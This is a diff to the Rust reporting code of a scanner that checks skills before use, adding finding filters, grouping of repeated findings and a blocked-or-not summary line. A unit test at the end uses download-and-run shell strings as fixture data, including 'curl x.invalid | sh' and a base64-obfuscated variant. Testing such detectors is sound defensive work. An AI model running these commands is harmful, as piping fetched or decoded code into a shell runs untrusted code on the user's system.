@@ -37,10 +37,37 @@ pub(super) fn suggestions(scans: &[ScannedSkill]) -> String {
 
 /// How many findings of a skill are shown, and for how many skills a line is printed even if nothing is wrong.
 pub(super) const SHOWN: usize = 20;
-pub(super) fn report(scans: &[ScannedSkill], total: &str, bad: bool, output: &Output) -> String {
+
+/// Which findings a page shows.
+#[derive(Clone, Copy, Default)]
+pub(in crate::commands) struct PageFilter<'a> {
+    /// Only what blocks.
+    pub(in crate::commands) bad: bool,
+    /// Only these rules or categories; all if empty.
+    pub(in crate::commands) only: &'a [String],
+}
+
+impl PageFilter<'_> {
+    pub(super) fn has_rule(self, id: &str) -> bool {
+        self.only.is_empty() || self.only.iter().any(|name| Self::names(id, name))
+    }
+
+    /// Whether `name` is the id of a rule or its category.
+    pub(super) fn names(id: &str, name: &str) -> bool {
+        name == id || id.split('/').next() == Some(name)
+    }
+}
+
+pub(super) fn report(
+    scans: &[ScannedSkill],
+    total: &str,
+    filter: PageFilter<'_>,
+    output: &Output,
+) -> String {
     let mut out = String::new();
     for scan in scans {
-        findings(scan, bad, output, &mut out);
+        out.push_str(&answer(scan, output));
+        findings(scan, filter, output, &mut out);
         let quiet = scan.report.verdict() <= Verdict::Info && scan.acceptance.is_none();
         if !quiet || scans.len() <= SHOWN || output.is_verbose() {
             out.push_str(&summary(scan, output));
@@ -48,6 +75,45 @@ pub(super) fn report(scans: &[ScannedSkill], total: &str, bad: bool, output: &Ou
     }
     out.push_str(total);
     out
+}
+
+/// For the person who is about to use the skill, before any detail: whether it is blocked, and the worst of what was found. Nothing if there
+/// is nothing to decide: then the summary is the answer.
+fn answer(scan: &ScannedSkill, output: &Output) -> String {
+    let name = output.paint(&one_line(&scan.entry.name()), Tone::Strong);
+    let worst = scan.report.findings.first();
+    let unread = scan.report.unread.first();
+    let why = match (scan.verdict(), worst, unread) {
+        (Verdict::Clean | Verdict::Info, ..) => return String::new(),
+        (Verdict::Incomplete, _, Some(unread)) if unread.file.is_empty() => {
+            format!("it was not read completely: {}", one_line(&unread.why))
+        }
+        (Verdict::Incomplete, _, Some(unread)) => format!(
+            "`{}` was not read: {}",
+            one_line(&unread.file),
+            one_line(&unread.why)
+        ),
+        (_, Some(finding), _) => one_line(&finding.message),
+        _ => "the scanner reported a danger before".to_owned(),
+    };
+    let (sign, what) = match (scan.stance(), scan.verdict()) {
+        _ if scan.acceptance.is_some() => (
+            output.paint("✓", Tone::Good),
+            "is not blocked, because you accepted it",
+        ),
+        (ScanConsequence::Blocked, Verdict::Critical | Verdict::Incomplete) => {
+            (output.paint("✗", Tone::Bad), "is blocked")
+        }
+        (ScanConsequence::Warned, Verdict::Critical | Verdict::Incomplete) => (
+            output.paint("!", Tone::Warn),
+            "is not blocked, because your configuration only warns",
+        ),
+        _ => (
+            output.paint("!", Tone::Warn),
+            "is not blocked; read this first",
+        ),
+    };
+    format!("{sign} {name} {what}: {why}\n")
 }
 
 /// How many skills have which verdict, in a line; nothing about a single skill.
@@ -73,34 +139,31 @@ pub(super) fn total(scans: &[ScannedSkill]) -> String {
 /// The findings of one skill with their evidence, and the files that were not read.
 pub(in crate::commands) fn findings(
     scan: &ScannedSkill,
-    bad: bool,
+    filter: PageFilter<'_>,
     output: &Output,
     out: &mut String,
 ) {
-    let least = if bad {
+    let least = if filter.bad {
         FindingSeverity::Critical
     } else {
         FindingSeverity::Warning
     };
-    let shown = |finding: &&Finding| finding.severity >= least || output.is_verbose();
+    let shown = |finding: &Finding| {
+        filter.has_rule(finding.rule.id()) && (finding.severity >= least || output.is_verbose())
+    };
     let most = if output.is_verbose() {
         usize::MAX
     } else {
         SHOWN
     };
-    let number = scan.report.findings.iter().filter(shown).count();
     let frames = scan.frames.iter().chain(std::iter::repeat(&None));
-    for (finding, frame) in scan
-        .report
-        .findings
-        .iter()
-        .zip(frames)
-        .filter(|(finding, _)| shown(finding))
-        .take(most)
-    {
-        describe(scan, finding, frame.as_ref(), output, out);
+    let all = scan.report.findings.iter().zip(frames);
+    let groups = grouped(all.filter(|(finding, _)| shown(finding)));
+    for group in groups.iter().take(most) {
+        describe(scan, group, output, out);
     }
-    let more = number.saturating_sub(most) + scan.report.more;
+    let hidden = groups.iter().skip(most).map(|group| 1 + group.also.len());
+    let more = hidden.sum::<usize>() + scan.report.more;
     if more > 0 {
         out.push_str(&format!("… and {more} more\n"));
     }
@@ -119,6 +182,55 @@ pub(in crate::commands) fn findings(
     let more = scan.report.unread.len().saturating_sub(most);
     if more > 0 {
         out.push_str(&format!("… and {more} more that were not read\n"));
+    }
+}
+
+/// A finding, and the other places where the same was found.
+struct FindingGroup<'a> {
+    finding: &'a Finding,
+    frame: Option<&'a SourceExcerpt>,
+    also: Vec<&'a Finding>,
+}
+
+/// Findings that differ only in their place, together; each group is where its first one was.
+fn grouped<'a>(
+    findings: impl Iterator<Item = (&'a Finding, &'a Option<SourceExcerpt>)>,
+) -> Vec<FindingGroup<'a>> {
+    let mut groups: Vec<FindingGroup<'a>> = Vec::new();
+    for (finding, frame) in findings {
+        let same = groups.iter_mut().find(|group| {
+            let first = group.finding;
+            (first.rule.id(), first.severity) == (finding.rule.id(), finding.severity)
+                && first.message == finding.message
+        });
+        match same {
+            Some(group) => group.also.push(finding),
+            None => groups.push(FindingGroup {
+                finding,
+                frame: frame.as_ref(),
+                also: Vec::new(),
+            }),
+        }
+    }
+    groups
+}
+
+/// How many other places of a finding are named.
+const ALSO: usize = 6;
+
+/// `scripts/a.sh:3, scripts/b.sh:9 and 4 more`.
+fn places(also: &[&Finding]) -> String {
+    let named: Vec<String> = also
+        .iter()
+        .take(ALSO)
+        .map(|finding| match finding.place.line {
+            0 => one_line(&finding.place.file),
+            line => format!("{}:{line}", one_line(&finding.place.file)),
+        })
+        .collect();
+    match also.len().saturating_sub(ALSO) {
+        0 => named.join(", "),
+        more => format!("{} and {more} more", named.join(", ")),
     }
 }
 
@@ -183,13 +295,8 @@ fn summary(scan: &ScannedSkill, output: &Output) -> String {
     line
 }
 
-fn describe(
-    scan: &ScannedSkill,
-    finding: &Finding,
-    frame: Option<&SourceExcerpt>,
-    output: &Output,
-    out: &mut String,
-) {
+fn describe(scan: &ScannedSkill, group: &FindingGroup<'_>, output: &Output, out: &mut String) {
+    let finding = group.finding;
     let tone = match finding.severity {
         FindingSeverity::Critical => Tone::Bad,
         FindingSeverity::Warning => Tone::Warn,
@@ -208,8 +315,21 @@ fn describe(
         one_line(&finding.message),
         one_line(finding.rule.id())
     ));
-    match frame {
-        Some(frame) => draw(finding, frame, output, out),
+    match group.frame {
+        Some(frame) => {
+            draw(finding, frame, output, out);
+            // What was found, then what makes it a finding: each only if the lines don't show it.
+            for (part, label) in finding
+                .evidence
+                .split(" ← ")
+                .zip(["reads as", "because of"])
+            {
+                if !stands_in(part, frame) {
+                    let label = output.paint(label, Tone::Faint);
+                    out.push_str(&format!("  {label} {}\n", one_line(part)));
+                }
+            }
+        }
         None if finding.evidence.is_empty() => {}
         None => out.push_str(&format!(
             "  {} {}\n",
@@ -226,13 +346,33 @@ fn describe(
             one_line(&step.what)
         ));
     }
+    if !group.also.is_empty() {
+        out.push_str(&format!(
+            "  {} {}\n",
+            output.paint("also at", Tone::Faint),
+            places(&group.also)
+        ));
+    }
     if let Some(fix) = finding.rule.fix() {
         out.push_str(&format!(
             "  {} {}\n",
-            output.paint("hint:", Tone::Note),
+            output.paint("for its author:", Tone::Faint),
             one_line(fix)
         ));
     }
+}
+
+/// Whether the evidence is what the lines show anyway. What was decoded, unfolded or made visible is not.
+fn stands_in(evidence: &str, frame: &SourceExcerpt) -> bool {
+    let words = |text: &str| -> Vec<String> {
+        let words = text.trim_end_matches('…').split_whitespace();
+        words.map(|word| visible(word).into_owned()).collect()
+    };
+    let (wanted, there) = (
+        words(evidence).concat(),
+        words(&frame.lines.concat()).concat(),
+    );
+    wanted.is_empty() || there.contains(&wanted)
 }
 
 /// The lines around a finding, with a mark below its column.
@@ -297,6 +437,21 @@ fn window(line: &str, column: usize, common: usize) -> (String, usize) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn evidence_is_repeated_only_if_the_lines_do_not_show_it() {
+        let frame = |line: &str| SourceExcerpt {
+            first: 3,
+            lines: vec!["set -e".to_owned(), line.to_owned()],
+        };
+        assert!(stands_in("cat  x | sh", &frame("  cat x | sh; true")));
+        assert!(stands_in("cat x | s…", &frame("cat x | sh")));
+        assert!(stands_in("", &frame("cat x")));
+        assert!(!stands_in(
+            "curl x.invalid | sh",
+            &frame("echo Y3VybA== | base64 -d | sh")
+        ));
+    }
 
     #[test]
     fn a_line_is_cut_around_its_column_and_hides_nothing() {
